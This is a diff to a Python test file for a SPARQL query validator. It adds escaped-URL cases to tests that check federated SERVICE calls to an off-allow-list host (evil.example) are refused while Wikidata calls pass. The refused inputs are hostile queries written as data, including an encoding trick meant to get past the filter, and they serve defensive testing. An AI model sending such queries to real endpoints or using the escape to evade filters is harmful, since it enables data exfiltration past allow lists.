@@ -30,6 +30,7 @@ def no_graphs(iri: str) -> bool:
         "SELECT * WHERE { SERVICE ?endpoint { ?s ?p ?o } VALUES ?endpoint { <http://evil.example/> } }",
         f"SELECT * WHERE {{ ?s ?p 'x' . SERVICE<{EVIL}>{{?s ?p ?o}} }}",
         f'SELECT * WHERE {{ ?s ?p """a\n""" SERVICE <{EVIL}> {{ ?s ?p ?o }} }}',
+        "SELECT * WHERE { SERVICE <http\\u003A//evil.example/sparql> { ?s ?p ?o } }",
     ],
 )
 def test_service_off_the_allow_list_is_refused(query: str) -> None:
@@ -46,6 +47,7 @@ def test_service_off_the_allow_list_is_refused(query: str) -> None:
         "SELECT ?service WHERE { ?service ?p ?o FILTER(?o < 3 && ?o > 1) }",
         "PREFIX ex: <http://example.org/> SELECT * WHERE { ex:service ex:from ?o }",
         f"SELECT * WHERE {{ SERVICE <{WIKIDATA}> {{ ?s ?p ?o }} }}",
+        "SELECT * WHERE { SERVICE <https\\u003A//query.wikidata.org/sparql> { ?s ?p ?o } }",
     ],
 )
 def test_service_in_strings_comments_names_and_to_wikidata_passes(query: str) -> None:
